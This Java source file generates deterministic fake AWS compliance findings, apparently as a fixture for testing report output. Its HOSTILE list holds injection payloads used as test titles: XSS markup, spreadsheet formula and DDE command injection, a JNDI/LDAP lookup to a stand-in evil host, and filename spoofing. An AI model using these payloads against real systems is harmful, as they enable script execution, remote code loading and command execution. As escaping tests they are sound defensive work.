package com.kaldrix.monitoring.compliance.report;

import com.kaldrix.monitoring.compliance.finding.ComplianceStatus;
import com.kaldrix.monitoring.compliance.finding.Control;
import com.kaldrix.monitoring.compliance.finding.FindingKey;
import com.kaldrix.monitoring.compliance.finding.FindingSeverity;
import com.kaldrix.monitoring.compliance.finding.Origin;
import com.kaldrix.monitoring.compliance.finding.RecordState;
import com.kaldrix.monitoring.compliance.finding.Seen;
import com.kaldrix.monitoring.compliance.finding.Source;
import com.kaldrix.monitoring.compliance.finding.Verdict;
import com.kaldrix.monitoring.compliance.finding.WorkflowStatus;
import com.kaldrix.monitoring.compliance.framework.Catalogue;
import com.kaldrix.monitoring.compliance.framework.Namespace;
import com.kaldrix.monitoring.compliance.framework.RequirementId;
import java.io.IOException;
import java.time.Instant;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.TreeMap;
import java.util.TreeSet;
import org.jspecify.annotations.Nullable;

/**
 * Findings of a made-up fleet, any number of them, one after the other, always the same.
 *
 * @param checks what is checked, sorted by control
 * @param resources how many resources each check looks at in each account and region
 */
record ExampleFleet(
        List<String> accounts, List<String> regions, List<ExampleCheck> checks, int resources, Instant cutOff)
        implements ReportFindings {
    private static final List<String> OWNERS =
            List.of("team-ledger", "team-network", "team-data", "", "platform@kaldrix.example", "team-validators");
    private static final List<String> COMPONENTS = List.of("consensus", "gateway", "explorer", "wallet", "");

    /** Titles that somebody could have sent to see what happens. */
    static final List<String> HOSTILE = List.of(
            "<script>alert('x')</script><img src=x onerror=alert(1)>",
            "=HYPERLINK(\"http://evil.example\",\"click\")",
            "Invoice \u202Egpj.exe\u202C looks like a picture",
            "Two\nlines\tand \"quotes\", commas; and a \u0000 NUL",
            "Emoji \uD83D\uDC69\u200D\uD83D\uDCBB and half a pair \uD83D alone",
            "\u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627 \u4F60\u597D \u1F3A9",
            "]]></td></table><!-- ${jndi:ldap://evil.example/a} {{7*7}} %n%s",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "Ten thousand characters: " + "x".repeat(9_975));

    /**
     * A check and how it usually ends.
     *
     * @param failing how many of a hundred resources fail; -1 when there is nothing to look at, -2 when it cannot be made
     */
    record ExampleCheck(
            Control control,
            FindingSeverity severity,
            String title,
            String resourceType,
            int failing,
            List<RequirementId> requirements) {
        boolean isHostile() {
            return control.namespace().equals("product");
        }

        String service() {
            return part(1);
        }

        String kind() {
            return part(2);
        }

        private String part(int index) {
            int begin = 0;
            for (int i = 0; i < index; i++) {
                begin = resourceType.indexOf("::", begin) + 2;
            }
            int end = resourceType.indexOf("::", begin);
            return resourceType
                    .substring(begin, end < 0 ? resourceType.length() : end)
                    .toLowerCase(Locale.ROOT);
        }

        int resourcesOf(int usual) {
            if (failing == -1) {
                return 0;
            }
            return isHostile() ? HOSTILE.size() : usual;
        }
    }

    /** Those of a catalogue, with titles of our own. */
    static List<ExampleCheck> checks(Catalogue catalogue, Map<String, String> controls) {
        Map<Control, ExampleCheck> checks = new TreeMap<>();
        controls.forEach((name, facts) -> {
            String[] cells = facts.split("\\|");
            Control control = Control.parse(name);
            TreeSet<RequirementId> requirements = new TreeSet<>();
            Namespace.of(control.namespace())
                    .ifPresent(namespace -> catalogue
                            .targets(namespace, control.name())
                            .forEach(target -> requirements.add(target.requirement())));
            checks.put(
                    control,
                    new ExampleCheck(
                            control,
                            FindingSeverity.valueOf(cells[0]),
                            cells[1],
                            cells[2],
                            Integer.parseInt(cells[3]),
                            List.copyOf(requirements)));
        });
        return List.copyOf(checks.values());
    }

    long size() {
        return (long) accounts.size()
                * regions.size()
                * checks.stream()
                        .mapToInt(check -> check.resourcesOf(resources))
                        .sum();
    }

    @Override
    public void forEach(Reader reader) throws IOException {
        for (String account : accounts) {
            for (String region : regions) {
                for (ExampleCheck check : checks) {
                    for (int i = 0; i < check.resourcesOf(resources); i++) {
                        reader.take(finding(account, region, check, i));
                    }
                }
            }
        }
    }

    private ReportFinding finding(String account, String region, ExampleCheck check, int i) {
        int dice = Math.floorMod(
                (account.hashCode()
                                        + 31
                                                * (region.hashCode()
                                                        + 31
                                                                * check.control()
                                                                        .name()
                                                                        .hashCode()))
                                * 31
                        + i * 7919,
                1_000);
        boolean failed = check.failing() > 0 && dice % 100 < check.failing();
        ComplianceStatus status = check.failing() == -2
                ? ComplianceStatus.NOT_AVAILABLE
                : failed ? ComplianceStatus.FAILED : ComplianceStatus.PASSED;
        WorkflowStatus workflow = dice % 41 == 0
                ? WorkflowStatus.SUPPRESSED
                : failed && dice % 3 == 0 ? WorkflowStatus.NOTIFIED : WorkflowStatus.NEW;
        RecordState record = dice % 53 == 0 ? RecordState.ARCHIVED : RecordState.ACTIVE;
        boolean waived = failed && dice % 11 == 0;
        Instant first = cutOff.minusSeconds(86_400L * (1 + dice % 90) + dice);
        Instant last = cutOff.minusSeconds(3_600 + dice);
        String service = check.service();
        String resource = "arn:aws:" + service + ":" + region + ":" + account + ":" + check.kind() + "/" + service + "-"
                + String.valueOf(1_000_000 + i).substring(1);
        Origin origin = new Origin(
                source(check.control()),
                "arn:aws:securityhub:" + region + ":" + account + ":security-control/"
                        + check.control().name() + "/finding/" + Integer.toHexString(dice) + "-" + i);
        boolean hostile = check.isHostile();
        String title = hostile ? HOSTILE.get(i) : check.title();
        return new ReportFinding(
                new FindingKey(account, region, check.control(), resource),
                new ReportFinding.What(
                        title,
                        hostile ? HOSTILE.get((i + 4) % (HOSTILE.size() - 1)) : failed ? cause(check, dice) : "",
                        check.resourceType(),
                        check.severity(),
                        List.of(origin)),
                new Verdict(status, workflow, record),
                new Seen(first, last, last.minusSeconds(60), cutOff),
                new ReportFinding.Handling(
                        failed ? OWNERS.get(dice % OWNERS.size()) : "",
                        due(failed, first),
                        COMPONENTS.get(dice % COMPONENTS.size()),
                        waived ? "W-" + (1 + dice % 3) : ""),
                check.requirements());
    }

    private static @Nullable Instant due(boolean failed, Instant first) {
        return failed ? first.plusSeconds(86_400L * 30) : null;
    }

    private static String cause(ExampleCheck check, int dice) {
        return dice % 4 == 0 ? "made by hand, outside of Terraform" : "set so in module " + check.resourceType();
    }

    private static Source source(Control control) {
        for (Source source : Source.values()) {
            if (source.word().equals(control.namespace())) {
                return source;
            }
        }
        return Source.PRODUCT;
    }
}
